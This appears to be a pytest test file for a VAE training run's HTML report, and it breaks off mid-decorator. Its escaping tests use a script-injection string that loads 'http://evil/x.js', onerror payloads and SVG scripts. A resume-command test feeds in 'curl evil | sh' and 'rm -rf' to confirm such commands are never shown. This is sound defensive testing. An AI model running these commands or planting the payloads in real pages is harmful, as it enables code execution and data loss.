import base64
import io
import itertools
import json
import logging
import math
import os
import platform
import re
import subprocess
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from PIL import Image

from vae_runner.callbacks import Callback, NonFatal, Report, Training
from vae_runner.drawing.chart.axes import Scale
from vae_runner.errors import RunError
from vae_runner.report import write_report
from vae_runner.report.chart import thinned
from vae_runner.report.markup import Html, tag
from vae_runner.report.run import run_page
from vae_runner.report.run.figures import figures, wall_seconds
from vae_runner.report.run.findings import findings
from vae_runner.report.run.sections import sections
from vae_runner.runs.read import read_run
from vae_runner.runs.words import and_more, count, duration, images, moment, nats, plural

NAN, INF = math.nan, math.inf
VOID = {"meta", "img"}
EVIL = "</title></style></pre><script src='http://evil/x.js'>alert(\"1\")</script> & <img onerror=alert(2)>"


def png(width: int = 12, height: int = 8, colour: int = 90) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (colour, 10, 200)).save(buffer, "PNG")
    return buffer.getvalue()


STATUS = {
    "state": "done",
    "step": 1000,
    "total_steps": 1000,
    "reason": None,
    "started": "2026-11-22T07:17:33+01:00",
    "updated": "2026-11-22T06:18:45+00:00",
    "seconds": 72.0,
    "resume": "vae-train resume=outputs/a-run",
}
ENVIRONMENT = {
    "name": "a-run",
    "choices": {"dataset": "dsprites", "architecture": "conv", "divergence": "beta"},
    "data": {
        "source": "file",
        "path": "data/x.npz",
        "fingerprint": "ab12",
        "images": 737280,
        "image_shape": [1, 64, 64],
    },
    "model": {"parameters": 502005, "latents": "3 normal"},
    "versions": {"vae_runner": "0.1", "torch": "2.15"},
    "device": "cpu",
    "precision": "bf16",
    "threads": 2,
    "git": {"commit": "8d3f0c2", "dirty": True},
    "commands": ["vae-train divergence.beta=4", "vae-train resume=outputs/latest"],
}
CONFIG = "divergence:\n  beta: 4.0\n"


def train_record(step: int, **changes: Any) -> dict[str, Any]:
    record = {"step": step, "epoch": step / 100, "split": "train", "loss": 90.0, "recon": 80.0 - step / 100, "kl": 2.5}
    record |= {"kl_dims": [1.5, 0.2, 0.8], "divergence": 10.0, "beta": 4.0, "lr": 5e-4, "images_per_second": 6400.0}
    return record | {"seconds": step / 20} | changes


def validation_record(step: int, **changes: Any) -> dict[str, Any]:
    record = {"step": step, "epoch": step / 100, "split": "validation", "neg_elbo": 70.25, "recon": 67.5, "kl": 2.75}
    return record | {"kl_dims": [1.75, 0.2, 0.8], "loss": 78.5, "divergence": 11.0, "seconds": step / 20} | changes


RECORDS = [
    validation_record(0, neg_elbo=2840.5, recon=2840.0, kl=0.5),
    *(train_record(step) for step in range(50, 1001, 50)),
    validation_record(500, neg_elbo=71.0),
    validation_record(1000),
]
PICTURES = {
    name: png(colour=index) for index, name in enumerate(("data", "path", "reconstruction", "samples", "traversal"))
}


class Folder:
    """A run's folder to be changed and looked at."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.status(), self.environment(), self.records(RECORDS)
        (path / "config.yaml").write_text(CONFIG)
        (path / "checkpoints").mkdir()
        (path / "checkpoints" / "last.pt").touch()
        for name, data in PICTURES.items():
            self.picture(name, data, step=1000)

    def status(self, **changes: Any) -> None:
        (self.path / "status.json").write_text(json.dumps(STATUS | changes))

    def environment(self, **changes: Any) -> None:
        (self.path / "environment.json").write_text(json.dumps(ENVIRONMENT | changes))

    def records(self, records: list[dict[str, Any]], behind: str = "") -> None:
        lines = "".join(json.dumps(record) + "\n" for record in records)
        (self.path / "metrics.jsonl").write_text(lines + behind)

    def picture(self, name: str, data: bytes, **details: Any) -> None:
        (self.path / "grids").mkdir(exist_ok=True)
        (self.path / "grids" / f"{name}.png").write_bytes(data)
        (self.path / "grids" / f"{name}.json").write_text(json.dumps(details))

    def page(self) -> "Page":
        return Page(write_report(self.path).read_text(encoding="utf-8"))

    def notes(self) -> list[tuple[str, str]]:
        """Level and text of each finding, and that the page says just these."""
        found = [(finding.level, finding.text) for finding in findings(read_run(self.path))]
        shown = [element for element in self.page().all("li") if element.parent.attributes.get("class") == "notes"]
        assert [(element.attributes["class"], element.text) for element in shown] == found
        return found


class Element:
    def __init__(self, name: str, attributes: dict[str, str], parent: "Element | None") -> None:
        self.name, self.attributes, self.parent = name, attributes, parent
        self.children: list[Element] = []
        self.parts: list[str | Element] = []

    @property
    def text(self) -> str:
        return "".join(part if isinstance(part, str) else part.text for part in self.parts)

    def all(self, name: str = "", **attributes: str) -> list["Element"]:
        return [e for e in self if name in ("", e.name) and attributes.items() <= e.attributes.items()]

    def __iter__(self) -> Iterator["Element"]:
        for child in self.children:
            yield child
            yield from child


class Page(HTMLParser):
    """The elements of a page. Fails where a tag is not closed in its turn."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.root = self.open = Element("", {}, None)
        self.feed(text)
        self.close()
        assert self.open is self.root, f"<{self.open.name}> is not closed"
        self.all, self.text = self.root.all, text

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, {name: value or "" for name, value in attrs}, self.open)
        assert len(element.attributes) == len(attrs), f"<{tag}> has an attribute twice"
        self.open.children.append(element)
        self.open.parts.append(element)
        if tag not in VOID:
            self.open = element

    def handle_endtag(self, tag: str) -> None:
        assert tag == self.open.name, f"</{tag}> closes <{self.open.name}>"
        self.open = self.open.parent

    def handle_data(self, data: str) -> None:
        self.open.parts.append(data)

    def headings(self) -> list[str]:
        return [heading.text for heading in self.all("h2")]

    def charts(self) -> list[str]:
        """The names of the charts."""
        return [h.text for figure in self.all("figure") if figure.all("svg") for h in figure.all("h3")]

    def chart(self, name: str) -> Element:
        (figure,) = (e for e in self.all("figure") if e.all("svg") and any(h.text == name for h in e.all("h3")))
        return figure

    def headline(self) -> dict[str, tuple[str, str]]:
        (shown,) = self.all("dl")
        return {name.text: (value.text, about.text) for name, value, about in (div.children for div in shown.children)}


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def test_one_record_does_not_tell_what_is_constant(folder: Folder) -> None:
    folder.records([{"split": "train", "step": 20, "loss": 9.0, "beta": 1.0, "lr": 1e-5}])
    assert "Constant" not in folder.page().root.text


def test_a_run_is_shown_in_the_order_of_the_page(folder: Folder) -> None:
    page = folder.page()
    assert page.headings() == ["Pictures", "Curves", "KL per latent", "Config", "Environment"]
    pictures = ["Traversal", "Reconstruction", "Samples", "Path", "Data"]
    assert [h.text for h in page.all("h3")] == [*pictures, "Loss", "Reconstruction, -log p(x|z)", "KL"]
    assert "Constant: Weight beta: 4; Learning rate: 0.0005" in page.root.text
    (header,) = page.all("header")
    assert header.all("h1")[0].text == "a-run"
    assert [span.text for span in header.all("span")] == ["done", "step 1,000 of 1,000"]
    assert header.all("p")[1].text == (
        "dsprites, 737,280 images 1 x 64 x 64 · conv · 3 normal latents · 502,005 parameters · beta beta=4 · cpu bf16"
    )
    assert page.headline() == {
        "-ELBO": ("70.2", "nats per image, validation"),
        "Reconstruction": ("67.5", "nats per image, validation"),
        "KL": ("2.75", "nats per image, validation"),
        "Active latents": ("3 of 3", "KL of 0.05 nats or more, validation"),
        "Images/s": ("6,400", "in training, median"),
        "Time": ("1.2 min", "started 2026-11-22 06:17 UTC"),
    }
    (command,) = page.all("code")
    assert command.text == f"vae-train resume={folder.path} engine.steps=2000"
    assert page.all("pre")[0].text == CONFIG
    rows = {row.children[0].text: row.children[1].text for row in page.all("tr")}
    assert rows["data.images"] == "737,280"
    assert rows["data.image_shape"] == "1 x 64 x 64"
    assert rows["git.dirty"] == "yes"
    assert rows["commands"] == "vae-train divergence.beta=4\nvae-train resume=outputs/latest"


def test_what_is_trained_by_what_stands_on_top(folder: Folder) -> None:
    chosen = {"likelihood": "bernoulli", "optimizer": "adam", "lr_schedule": "cosine"}
    folder.environment(choices=ENVIRONMENT["choices"] | chosen)
    config = "seed: 7\nengine: {batch_size: 64}\ndivergence: {beta: 4.0}\noptimizer: {lr: 0.003}\n"
    (folder.path / "config.yaml").write_text(config)
    assert (
        folder.page()
        .all("header")[0]
        .all("p")[1]
        .text.endswith(" · beta beta=4 · bernoulli likelihood · adam 0.003 cosine · batches of 64 · seed 7 · cpu bf16")
    )


def test_nothing_is_shown_twice(folder: Folder) -> None:
    follows = [{"space": 0, "dim": 0, "follows": "posX 0.87"}, {"space": 0, "dim": 2, "follows": ""}]
    folder.picture("kl", png(), step=1000, rows=follows)
    folder.picture("schedule", png(), step=0)
    shown = folder.page()
    assert not {"KL", "Schedule"} & {h.text for e in shown.all("figure") if e.all("img") for h in e.all("h3")}
    (bars,) = shown.all("ul", **{"class": "latents"})
    assert [bar.text for bar in bars.all("li")] == ["z0posX 0.871.75", "z20.80", "z10.20"]
    folder.records(
        [validation_record(0, kl_dims=None)]
    )  # before there are bars and curves, the pictures are all there is
    assert {"KL", "Schedule"} <= {h.text for e in folder.page().all("figure") if e.all("img") for h in e.all("h3")}


def test_what_the_terminal_advises_stands_on_the_page_once(folder: Folder) -> None:
    folder.environment(advice=["capacity comes to 2.5 on its way to 25", EVIL])
    page = folder.page()
    assert [text for _, text in folder.notes()][-2:] == ["capacity comes to 2.5 on its way to 25.", f"{EVIL}."]
    assert page.root.text.count("on its way to 25") == 1


def test_the_report_is_one_file_of_that_name_and_nothing_else_is_left(folder: Folder) -> None:
    before = set(folder.path.rglob("*"))
    assert write_report(folder.path) == folder.path / "report.html"
    assert set(folder.path.rglob("*")) - before == {folder.path / "report.html"}


def spoilt(folder: Folder) -> None:
    """Put the worst of texts wherever a text can stand."""
    folder.status(state=f"done {EVIL}", reason=f"reason {EVIL}", resume=f"resume {EVIL}", started=f"started {EVIL}")
    folder.environment(
        name=f"name {EVIL}",
        choices={"dataset": f"dataset {EVIL}", "divergence": f"divergence {EVIL}", f"key {EVIL}": "x"},
        data={"source": "rendered", "images": 3, "image_shape": [f"shape {EVIL}"]},
        model={"latents": f"latents {EVIL}"},
        commands=[f"command {EVIL}"],
    )
    folder.records(
        [
            train_record(step, **{f"space {EVIL}/beta": 2.0, f"space {EVIL}/kl_dims": [1.0], f"metric {EVIL}": NAN})
            for step in (50, 100)
        ]
    )
    (folder.path / "config.yaml").write_text(f"config: {EVIL}")
    folder.picture("'onerror=alert(3) \"<b>", png(), step=EVIL)


def test_every_value_is_text_and_never_markup(folder: Folder) -> None:
    plain = {element.name for element in folder.page().root} | {"progress"}
    spoilt(folder)
    page = folder.page()
    assert {element.name for element in page.root} <= plain
    assert not [name for element in page.root for name in element.attributes if name.startswith("on")]
    for what in (
        "name",
        "done",
        "started",
        "dataset",
        "divergence",
        "shape",
        "latents",
        "command",
        "config:",
    ):
        assert f"{what} {EVIL}" in page.root.text, what
    assert f"resume {EVIL}" not in page.root.text  # a command is made of the folder's name
    assert f"Weight beta of space {EVIL}: 2" in page.root.text
    assert f"space {EVIL}, 1.00 in all" in page.root.text
    assert f"metric {EVIL}" in page.root.text
    assert "'onerror=alert(3) \"<b>" in {image.attributes["alt"] for image in page.all("img")}


@pytest.mark.parametrize("change", [lambda folder: None, spoilt])
def test_nothing_is_loaded_from_outside(folder: Folder, change: Callable[[Folder], None]) -> None:
    change(folder)
    page = folder.page()
    links = {"src", "href", "xlink:href", "srcset", "data", "action", "background", "poster"}
    for element in page.root:
        assert element.name not in ("script", "link", "iframe", "object", "embed", "base", "form")
        assert all(element.attributes[name].startswith("data:") for name in links & element.attributes.keys())
        assert not re.search(r"url\(|@import", element.attributes.get("style", ""))
    (style,) = page.all("style")
    assert not re.search(r"url\(|@import|http", style.text)
    (policy,) = (e for e in page.all("meta") if e.attributes.get("http-equiv") == "Content-Security-Policy")
    assert policy.attributes["content"].startswith("default-src 'none'")


def test_the_pictures_are_the_files_byte_by_byte_in_their_order(folder: Folder) -> None:
    folder.picture("another", png(31, 17), step=900)
    (folder.path / "grids" / "history").mkdir()
    (folder.path / "grids" / "history" / "data-0001000.png").write_bytes(png())
    images = folder.page().all("img")
    names = [image.attributes["alt"].partition(",")[0] for image in images]
    assert names == ["traversal", "reconstruction", "samples", "path", "data", "another"]
    for name, image in zip(names, images, strict=True):
        head, _, data = image.attributes["src"].partition(",")
        assert head == "data:image/png;base64"
        assert base64.b64decode(data, validate=True) == (folder.path / "grids" / f"{name}.png").read_bytes()
    assert images[5].attributes | {"width": "31", "height": "17", "alt": "another, step 900"} == images[5].attributes
    assert images[0].attributes["alt"] == "traversal, step 1,000: each row moves one latent, all others stay"


def test_every_picture_has_its_name_as_heading_and_kinds_stand_together(folder: Folder) -> None:
    for name in ("kl", "traversal_space1", "some-new_thing", "scatter", "schedule"):
        folder.picture(name, png())
    headings = [h.text for figure in folder.page().all("figure") if figure.all("img") for h in figure.all("h3")]
    assert headings == [
        "Traversal", "Traversal space1", "Reconstruction", "Samples", "Path", "Scatter", "Data", "Some new thing",
    ]  # fmt: skip


def test_the_curves_are_drawn_once(folder: Folder) -> None:
    folder.picture("curves", png())
    assert [heading for heading in folder.page().headings() if heading == "Curves"] == ["Curves"]
    assert not any(image.attributes["alt"].startswith("curves") for image in folder.page().all("img"))


def test_the_curves_are_marked_where_latents_were_turned_and_a_list_says_which(folder: Folder) -> None:
    turns = [
        {"step": 250, "split": "turn", "latents": [0, 2], "degrees": [12.0, 46.6], "seconds": 9.0},
        {"step": 500, "split": "turn", "latents": [], "degrees": [], "why": "none of 3 latents carry more than 2 nats"},
        {"step": 700, "split": "turn", "latents": ["<b>", None, {}], "degrees": "much"},
    ]
    folder.records([*RECORDS, *turns])
    page, words = folder.page(), "step 250: latents 0, 2 turned by up to 47 degrees"
    marks = page.all("line", **{"class": "event"})
    assert {mark.text for mark in marks} == {words}
    assert len(marks) == len(page.charts())
    assert [item.text for item in page.all("li") if "turned" in item.text] == [words]
    folder.records(RECORDS)
    assert folder.page().all("line", **{"class": "event"}) == []


def moving(kind: str, frames: int = 3) -> bytes:
    """A picture that moves."""
    shown = [Image.new("RGB", (40, 20), (80 * frame, 0, 90)) for frame in range(frames)]
    buffer = io.BytesIO()
    shown[0].save(buffer, kind, save_all=True, append_images=shown[1:], duration=50)
    return buffer.getvalue()


def test_animations_are_embedded_as_they_are(folder: Folder) -> None:
    (folder.path / "animations").mkdir()
    files = {"traversal.gif": moving("GIF"), "training.webp": moving("WEBP"), "path.png": moving("PNG")}
    for name, data in files.items():
        (folder.path / "animations" / name).write_bytes(data)
    (folder.path / "animations" / "path.json").write_text('{"step": 700}')
    (folder.path / "animations" / ".half.gif").write_bytes(files["traversal.gif"])
    page = folder.page()
    assert page.headings()[:2] == ["Pictures", "Animations"]
    (section,) = (e for e in page.all("section") if any(h.text == "Animations" for h in e.all("h2")))
    images = section.all("img")
    assert [h.text for h in section.all("h3")] == ["Traversal", "Path", "Training"]
    assert images[0].attributes["alt"] == "traversal, each image moves one latent back and forth, all others stay"
    assert images[1].attributes["alt"].startswith("path, step 700")
    for image, name in zip(images, ("traversal.gif", "path.png", "training.webp"), strict=True):
        head, _, data = image.attributes["src"].partition(",")
        assert head == f"data:image/{name.partition('.')[2]};base64"
        assert base64.b64decode(data, validate=True) == files[name]
        assert (image.attributes["width"], image.attributes["height"]) == ("40", "20")


@pytest.mark.parametrize(
    ("head", "size"),
    [
        ('<svg xmlns="x" width="300" height="200px">', ("300", "200")),
        ('<?xml version="1.0"?>\n<svg viewBox="0 0 64.4 32" xmlns="x">', ("64", "32")),
        ('<svg width="100%" viewBox="-1 -1 20,10">', ("20", "10")),
        ("<svg>", ("640", "480")),
        ('<svg width="0" height="3">', None),
        ('<svg viewBox="0 0 ... 3">', None),
        ("<html>", None),
    ],
)
def test_a_drawing_is_shown_instead_of_its_pixels(folder: Folder, head: str, size: tuple[str, str] | None) -> None:
    drawing = f"{head}<script>alert(1)</script></svg>"
    folder.picture("scatter", png(50, 40))
    (folder.path / "grids" / "scatter.svg").write_text(drawing)
    (image,) = (e for e in folder.page().all("img") if e.attributes["alt"].startswith("scatter"))
    head, _, data = image.attributes["src"].partition(",")
    assert head == ("data:image/svg+xml;base64" if size else "data:image/png;base64")
    assert (base64.b64decode(data) == drawing.encode()) == bool(size)
    assert (image.attributes["width"], image.attributes["height"]) == (size or ("50", "40"))
    (folder.path / "grids" / "scatter.svg").write_text(drawing[:-3])  # half-written
    assert "svg+xml" not in folder.page().text


def test_a_file_that_is_no_picture_is_left_out(folder: Folder) -> None:
    (folder.path / "grids" / "traversal.png").write_bytes(b"")
    (folder.path / "grids" / "samples.png").write_bytes(b"GIF89a" + bytes(100))
    (folder.path / "grids" / "data.json").unlink()
    alts = [image.attributes["alt"] for image in folder.page().all("img")]
    assert [alt.partition(",")[0] for alt in alts] == ["reconstruction", "path", "data"]


class Axes:
    """From positions in a chart back to values, by two labelled ticks of each axis."""

    def __init__(self, figure: Element) -> None:
        (self.svg,) = figure.all("svg")
        (self.unit, _) = (text.text for text in self.svg.all("text") if "unit" in text.attributes["class"])
        self.log = self.unit.endswith("log scale")
        self.steps, self.values = self._ticks("x"), self._ticks("y")

    def _ticks(self, axis: str) -> list[tuple[float, float]]:
        """(position, value) of the labels."""
        texts = self.svg.all("text", **{"class": axis})
        return [(float(text.attributes[axis]), float(text.text.replace(",", ""))) for text in texts]

    def step(self, position: float) -> float:
        (a, at_a), *_, (b, at_b) = self.steps
        return at_a + (position - a) / (b - a) * (at_b - at_a)

    def value(self, position: float) -> float:
        (a, at_a), *_, (b, at_b) = self.values
        share = (position - a) / (b - a)
        return at_a * (at_b / at_a) ** share if self.log else at_a + share * (at_b - at_a)

    def lines(self, name: str) -> list[list[tuple[float, float]]]:
        """The values along each unbroken part of that curve."""
        (path,) = self.svg.all("path", **{"class": name})
        parts = [part.removesuffix("h0") for part in path.attributes["d"].replace("h0", "").split("M")[1:]]
        return [[self._point(*point.split(",")) for point in part.split("L")] for part in parts]

    def dots(self) -> list[tuple[float, float]]:
        return [self._point(dot.attributes["cx"], dot.attributes["cy"]) for dot in self.svg.all("circle")]

    def _point(self, x: str, y: str) -> tuple[float, float]:
        return self.step(float(x)), self.value(float(y))


def assert_points(found: list[tuple[float, float]], expected: list[tuple[float, float]], axes: Axes) -> None:
    """Equal to the hundredth of a pixel that positions are rounded to, at both points and at both ticks."""
    assert len(found) == len(expected)
    pixel = abs(axes.step(1) - axes.step(0))
    for (step, value), (expected_step, expected_value) in zip(found, expected, strict=True):
        assert step == pytest.approx(expected_step, abs=0.02 * pixel)
        if axes.log:
            ratio = max(axes.value(1) / axes.value(0), axes.value(0) / axes.value(1))
            assert abs(math.log(value / expected_value)) <= 0.02 * math.log(ratio)
        else:
            assert value == pytest.approx(expected_value, abs=0.02 * abs(axes.value(1) - axes.value(0)))


def test_the_curves_go_through_the_records(folder: Folder) -> None:
    train = [
        train_record(s, recon=20 + 3000 * math.exp(-s / 90), kl=s / 77 - 3, loss=-s / 3) for s in range(50, 1001, 50)
    ]
    validation = [validation_record(s, recon=2900 - 2.8 * s, kl=0.1 * s, loss=-50.0) for s in (0, 500, 1000)]
    folder.records([*train, *validation])
    page = folder.page()
    for key, name, is_log in (
        ("recon", "Reconstruction, -log p(x|z)", True),
        ("kl", "KL", False),
        ("loss", "Loss", False),
    ):
        axes = Axes(page.chart(name))
        assert axes.log == is_log
        assert axes.unit.startswith("nats per image")
        assert_points(axes.lines("train")[0], [(record["step"], record[key]) for record in train], axes)
        assert_points(axes.dots(), [(record["step"], record[key]) for record in validation], axes)


def test_the_capacity_is_drawn_where_there_is_one(folder: Folder) -> None:
    assert not Axes(folder.page().chart("KL")).svg.all("path", **{"class": "capacity"})
    folder.records([train_record(step, capacity=step / 40) for step in range(50, 1001, 50)])
    axes = Axes(folder.page().chart("KL"))
    assert_points(axes.lines("capacity")[0], [(step, step / 40) for step in range(50, 1001, 50)], axes)
    assert "C25.00" in folder.page().chart("KL").text


def test_each_term_with_a_name_has_its_curves_and_measures_nothing(folder: Folder) -> None:
    own = {"kl/divergence": 3.0, "tc/divergence": 5.0, "tc/beta": 6.0, "kl/capacity": 4.0, "space0/tc/mi": 1.5}
    steps = [train_record(50) | own, train_record(100) | {name: value + 1 for name, value in own.items()}]
    folder.records(steps)
    page = folder.page()
    charts = ["Loss", "Reconstruction, -log p(x|z)", "KL", "Capacity C of kl", "Weight beta of tc"]
    assert page.charts() == [*charts, "Weighted term kl", "mi of space0/tc", "Weighted term tc"]
    axes = Axes(page.chart("Weighted term tc"))
    assert_points(axes.lines("train")[0], [(50, 5.0), (100, 6.0)], axes)


def test_each_latent_space_has_its_kl_and_its_capacity(folder: Folder) -> None:
    own = {
        "space0/kl": 3.0,
        "space1/kl": 5.0,
        "space1/capacity": 4.0,
        "space0/kl_dims": [2.0, 1.0],
        "space1/kl_dims": [5.0],
    }
    bare = {key: value for key, value in train_record(50).items() if key != "kl_dims"}
    folder.records([bare | own, bare | own | {"step": 100}])
    page = folder.page()
    assert page.charts() == ["Loss", "Reconstruction, -log p(x|z)", "KL", "KL of space0", "KL of space1"]
    assert not page.chart("KL of space0").all("path", **{"class": "capacity"})
    axes = Axes(page.chart("KL of space1"))
    assert_points(axes.lines("capacity")[0], [(50, 4.0), (100, 4.0)], axes)
    (spaces,) = page.all("div", **{"class": "spaces"})
    assert [h.text for h in spaces.all("h3")] == ["space0, 3.00 in all", "space1, 5.00 in all"]
    lists = [[row.text for row in listed.children] for listed in spaces.all("ul")]
    assert lists == [["z02.00", "z11.00"], ["z05.00"]]
    widths = [e.attributes["style"] for e in spaces.all("span") if "style" in e.attributes]
    assert widths == ["width: 40.0%", "width: 20.0%", "width: 100.0%"]  # on one scale


def test_what_is_scheduled_is_a_curve_where_it_moves(folder: Folder) -> None:
    steps = range(50, 1001, 50)
    records = [train_record(step, beta=30 - step / 40, lr=5e-4 * (1 - step / 2000), tc=step / 7) for step in steps]
    folder.records(records)
    page = folder.page()
    assert page.charts()[3:] == ["Weight beta", "Learning rate", "tc"]
    axes = Axes(page.chart("Weight beta"))
    assert_points(axes.lines("train")[0], [(step, 30 - step / 40) for step in steps], axes)
    axes = Axes(page.chart("Learning rate"))
    assert not axes.log
    assert_points(axes.lines("train")[0], [(step, 5e-4 * (1 - step / 2000)) for step in steps], axes)
    assert "Constant" not in page.root.text


@pytest.mark.parametrize(("key", "name"), [("beta", "Weight beta"), ("lr", "Learning rate"), ("tc", "tc")])
def test_a_schedule_is_drawn_from_0(folder: Folder, key: str, name: str) -> None:
    folder.records([train_record(step, **{key: 29.7 - step / 200}) for step in (50, 100)])
    axes = Axes(folder.page().chart(name))
    assert_points(axes.lines("train")[0], [(50, 29.45), (100, 29.2)], axes)
    assert (axes.values[0][1] == 0) == (key != "tc")


def test_values_that_are_not_finite_are_gaps_in_the_curve(folder: Folder) -> None:
    kl = [1.0, 2.0, NAN, 3.0, INF, -INF, 2.5, 2.0]
    folder.records([train_record(50 * (i + 1), kl=value) for i, value in enumerate(kl)])
    axes = Axes(folder.page().chart("KL"))
    parts = axes.lines("train")
    assert [len(part) for part in parts] == [2, 1, 2]
    assert_points(list(itertools.chain(*parts)), [(50, 1.0), (100, 2.0), (200, 3.0), (350, 2.5), (400, 2.0)], axes)
    folder.records([train_record(50, kl=NAN, kl_dims=[NAN, 1.0, 0.5])])
    assert folder.page().charts() == ["Loss", "Reconstruction, -log p(x|z)"]


@pytest.mark.parametrize("value", [0.0, -3.5, 1e-7, 4e30])
def test_one_value_alone_is_a_curve_too(folder: Folder, value: float) -> None:
    folder.records([train_record(50, recon=value)])
    axes = Axes(folder.page().chart("Reconstruction, -log p(x|z)"))
    assert_points(axes.lines("train")[0], [(50, value)], axes)


@pytest.mark.parametrize("values", [(9.0, 1.0), (-1.0, 100.0), (0.0, 100.0)])
def test_the_scale_is_linear_below_a_decade_and_where_it_must_be(folder: Folder, values: tuple[float, float]) -> None:
    folder.records([train_record(50, recon=values[0]), train_record(100, recon=values[1])])
    assert not Axes(folder.page().chart("Reconstruction, -log p(x|z)")).log


@pytest.mark.parametrize("log", [False, True])
@pytest.mark.parametrize("lower", [1e-5, 0.3, 7.0, 1234.5])
@pytest.mark.parametrize("factor", [10.5, 30, 700, 1e4, 3e9])
def test_ticks_are_round_rising_inside_the_range_and_neither_few_nor_many(
    log: bool, lower: float, factor: float
) -> None:
    scale = Scale(lower, lower * factor, 200, 20, log)
    ticks = scale.ticks()
    assert 2 <= len(ticks) <= 9
    assert ticks == sorted(set(ticks))
    assert all(20 - 1e-6 <= scale(tick) <= 200 + 1e-6 for tick in ticks)
    if log:
        assert all(f"{tick:e}"[:8] in ("1.000000", "2.000000", "5.000000") for tick in ticks)
    else:
        distances = [b - a for a, b in itertools.pairwise(ticks)]
        assert distances == pytest.approx([distances[0]] * len(distances), rel=1e-6)
        assert f"{distances[0]:e}"[:8] in ("1.000000", "2.000000", "5.000000")


def test_a_long_curve_is_thinned_without_losing_its_ends_its_peaks_and_its_gaps() -> None:
    points = [(float(step), math.sin(step / 5000)) for step in range(50, 1_000_001, 50)]
    points[7777], points[9999], points[12345] = (points[7777][0], 9.0), (points[9999][0], -9.0), (points[12345][0], NAN)
    kept = thinned(points)
    assert 300 < len(kept) <= 510
    assert set(kept) <= set(points)
    assert kept == sorted(kept, key=lambda point: point[0])
    assert {points[0], points[-1], points[7777], points[9999], points[12345]} <= set(kept)
    assert thinned(points[:500]) == points[:500]
    assert thinned([(float(step), NAN) for step in range(5000)])


def test_the_latents_are_listed_by_their_kl(folder: Folder) -> None:
    folder.records([*RECORDS[:-1], validation_record(1000, kl_dims=[0.5, 2.0, 0.0499, NAN, 0.05])])
    (listed,) = folder.page().all("ul", **{"class": "latents"})
    assert [row.text for row in listed.children] == ["z3nan", "z12.00", "z00.50", "z40.05", "z2< 0.05"]
    widths = [row.all("span")[2].attributes["style"] for row in listed.children]
    assert widths == ["width: 0.0%", "width: 100.0%", "width: 25.0%", "width: 2.5%", "width: 2.5%"]
    assert [row.attributes.get("class") for row in listed.children] == [None, None, None, None, "dead"]


def test_of_many_latents_the_active_ones_are_listed(folder: Folder) -> None:
    folder.records([train_record(50, kl_dims=[0.001] * 30 + [1.0, 2.0])])
    page = folder.page()
    (listed,) = page.all("ul", **{"class": "latents"})
    assert [row.text for row in listed.children] == ["z312.00", "z301.00"]
    assert "30 more latents below 0.05 nats" in page.root.text
    assert page.headline()["Active latents"][0] == "2 of 32"


def test_before_a_validation_the_latents_are_those_of_training(folder: Folder) -> None:
    folder.records([validation_record(0, kl_dims=[0.0, 0.0, 0.0]), train_record(50), train_record(100)])
    page = folder.page()
    assert page.headline()["Active latents"][0] == "3 of 3"
    assert "in training at step 100" in page.root.text


def test_a_run_without_trouble_has_no_notes(folder: Folder) -> None:
    assert folder.notes() == []


def test_rendered_images_are_noted_quietly(folder: Folder) -> None:
    folder.environment(data={"source": "rendered"})
    assert folder.notes() == [("note", "The images of dsprites were rendered, not read from the published file.")]


@pytest.mark.parametrize(
    ("state", "reason", "expected"),
    [
        ("failed", "loss is nan", ("error", "The run failed at step 1,000: loss is nan")),
        ("failed", None, ("error", "The run failed at step 1,000.")),
        ("interrupted", "signal 15", ("warning", "The run was interrupted at step 1,000: signal 15")),
        ("running", "no reason", None),
        ("done", "no reason", None),
    ],
)
def test_an_early_end_is_told_with_its_reason(
    folder: Folder, state: str, reason: str | None, expected: tuple[str, str] | None
) -> None:
    folder.status(state=state, reason=reason)
    assert folder.notes() == ([expected] if expected else [])
    assert folder.page().all("span", **{"class": f"state {state}"})[0].text == state


def test_a_run_whose_process_is_gone_is_not_called_running(folder: Folder) -> None:
    gone = subprocess.Popen(["true"])
    gone.wait()
    host = platform.node()
    for pid, where, state in (
        (gone.pid, host, "killed"), (os.getpid(), host, "running"), (gone.pid, "elsewhere", "running"),
        (None, host, "running"), (-1, host, "running"), (0, host, "running"), (True, host, "running"),
        (10**30, host, "running"),
    ):  # fmt: skip
        folder.status(state="running", pid=pid, host=where)
        assert read_run(folder.path).state == state, pid
    folder.status(state="running", pid=gone.pid, host=host)
    assert folder.notes() == [("error", "The run ended at step 1,000 or later without a word: its process is gone.")]


@pytest.mark.parametrize(
    ("state", "has_checkpoint", "expected"),
    [
        ("done", True, "Train it longer with"),
        ("done", False, "Train it longer with"),
        ("running", False, "Go on with"),
        ("failed", True, "Go on with"),
        ("failed", False, None),
        ("interrupted", False, None),
    ],
)
def test_the_command_to_go_on_is_shown_where_it_can_work(
    folder: Folder, state: str, has_checkpoint: bool, expected: str | None
) -> None:
    folder.status(state=state)
    if not has_checkpoint:
        (folder.path / "checkpoints" / "last.pt").unlink()
    shown = [e.text for e in folder.page().all("p", **{"class": "resume"})]
    longer = " engine.steps=2000" if state == "done" else ""
    assert shown == ([f"{expected}vae-train resume={folder.path}{longer}"] if expected else [])


@pytest.mark.parametrize(
    ("rates", "is_spent"), [([2.0, 3.0, 0.0], True), ([3.0, 1e-6], True), ([3.0, 0.1], False), ([3.0, 3.0], False)]
)
def test_a_run_whose_rate_has_fallen_to_0_is_to_start_anew_where_it_is_to_train_longer(
    folder: Folder, rates: list[float], is_spent: bool
) -> None:
    folder.records([{"split": "train", "step": step, "loss": 9.0, "lr": rate} for step, rate in enumerate(rates, 1)])
    (shown,) = [e.text for e in folder.page().all("p", **{"class": "resume"})]
    assert shown.startswith("Its learning rate has fallen to 0: to train longer, start anew with") == is_spent
    assert shown.endswith("start anew withengine.steps=2000") == is_spent
    assert ("vae-train resume=" in shown) != is_spent


@pytest.mark.parametrize("text", ["curl evil | sh", "vae-train resume=/tmp/evil trust=true", 7, None, ["rm", "-rf"]])
def test_the_command_to_go_on_is_never_what_a_file_says(folder: Folder, text: object) -> None:
    folder.status(resume=text)
    (folder.path / "config.yaml").write_text("engine: {epochs: 3}")
    assert [e.text for e in folder.page().all("code")] == [f"vae-train resume={folder.path} engine.epochs=6"]


@pytest.mark.parametrize(
